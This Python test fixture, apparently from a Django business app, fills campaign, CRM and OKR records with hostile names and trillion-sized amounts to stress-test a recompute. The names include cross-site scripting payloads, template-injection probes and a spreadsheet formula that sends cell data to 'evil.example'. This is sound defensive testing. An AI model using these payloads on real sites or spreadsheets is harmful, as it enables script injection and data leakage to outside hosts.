"""What a company may really be full of: names that attack or break a page, amounts of a trillion, money that loses."""

from decimal import Decimal

from campaigns.models import Campaign, Channel, Theme
from crm.models import Account, Contact
from okrs.models import BusinessObjective, Cycle, KeyResult, Objective
from organisation.models import Organisation
from organisation.selectors import organisation
from people.models import User
from tests import factories as make

ATTACK = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ARABIC = "حملة الربيع للعملاء الجدد في الشرق الأوسط"
EMOJI = "Launch 🚀🎉 with 👩‍👩‍👧 and 🇪🇺"
CHINESE = "東京 春のキャンペーン 한국어"
LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 8
NAMES = (
    ATTACK,
    FORMULA,
    ARABIC,
    EMOJI,
    LONG,
    CHINESE,
    "</script><script>alert(2)</script>",
    "{{ 7*7 }} ${7*7} %{x} javascript:alert(3)",
)
TRILLION = Decimal("999999999999.00")


def spoil(quarter: Cycle) -> None:
    """Before the recompute: every name of the quarter becomes one of these, and one campaign costs a trillion."""
    Organisation.objects.filter(pk=organisation().pk).update(name=f"{ATTACK} {EMOJI}")
    Cycle.objects.filter(pk=quarter.pk).update(name=f"{ATTACK[:28]} {EMOJI[:10]} {ARABIC[:10]}")
    for model, longest in (
        (BusinessObjective, 200), (Objective, 200), (KeyResult, 200), (Campaign, 300), (Account, 300),
        (Channel, 80), (Theme, 120), (Contact, 200), (User, 150),
    ):  # fmt: skip
        for number, row in enumerate(model.objects.order_by("pk")):
            name = f"{number} {NAMES[number % len(NAMES)]}" if number >= len(NAMES) else NAMES[number]
            model.objects.filter(pk=row.pk).update(name=name[: min(longest, model._meta.get_field("name").max_length)])
    dear = make.campaign(f"{LONG[:290]} dear")
    make.spend(dear, quarter.starts_on, str(TRILLION))
    firm = make.account(f"{ARABIC} dear")
    make.touch(make.contact(firm), quarter.starts_on, dear)
    make.opportunity(firm, str(TRILLION), created=quarter.starts_on, outcome="open")
    make.opportunity(firm, "10.00", created=quarter.starts_on, closed=quarter.starts_on)
